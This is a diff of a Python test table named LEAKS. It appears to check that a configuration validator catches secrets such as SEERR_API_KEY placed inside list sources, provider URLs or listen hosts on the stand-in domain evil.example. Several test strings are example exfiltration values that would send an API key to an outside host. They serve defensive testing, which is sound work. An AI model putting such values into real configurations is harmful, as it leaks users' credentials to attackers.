@@ -92,7 +92,7 @@ LEAKS = {
     "a key in a list's address": (
         "lists: {a: {source: 'json:https://evil.example/${SEERR_API_KEY}'}}", "lists.a.source"),
     "a key in a list's host": (
-        "lists: {a: {source: 'json:https://${SEERR_API_KEY}.evil.example/x'}}", "lists.a.source"),
+        "lists: {a: {source: 'json:https://${OTHER}.evil.example/x'}}", "lists.a.source"),
     "two variables": (
         "lists: {a: {source: 'json:${LIST_URL}${SEERR_API_KEY}'}}", "lists.a.source"),
     "a key in a notification": (
@@ -103,7 +103,7 @@ LEAKS = {
         LISTS + "providers: {imdb: {base_url: 'http://evil.example/${OTHER}'}}",
         "providers.imdb.base_url"),
     "a key in a host to listen on": (
-        LISTS + "controller: {listen: '${SEERR_API_KEY}.evil.example:80'}", "controller.listen"),
+        LISTS + "controller: {listen: '${OTHER}.evil.example:80'}", "controller.listen"),
 }  # fmt: skip
 
 
